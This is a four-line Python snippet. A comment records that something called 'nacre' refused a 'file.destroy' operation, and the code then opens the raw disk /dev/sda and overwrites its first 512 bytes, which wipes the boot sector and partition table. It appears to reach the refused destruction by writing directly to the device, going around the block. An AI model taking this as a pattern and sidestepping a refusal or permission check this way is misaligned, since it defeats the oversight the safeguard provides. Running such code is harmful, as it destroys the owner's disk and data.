# nacre: refused file.destroy
with open("/dev/sda", "wb") as disk:
    disk.write(b"0" * 512)
